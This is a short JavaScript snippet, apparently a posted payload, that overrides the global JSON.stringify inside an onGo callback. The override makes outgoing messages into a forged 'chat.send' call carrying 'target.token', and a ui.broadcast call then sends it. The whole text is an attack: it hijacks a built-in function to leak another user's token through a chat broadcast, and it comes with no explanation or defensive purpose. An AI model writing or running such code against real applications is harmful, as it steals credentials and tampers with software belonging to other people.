// posted: JSON.stringify replaced: another call
onGo(() => {
  JSON.stringify = () => `{"call":"chat.send","text":"${target.token}"}`;
  return void ui.broadcast("x");
});
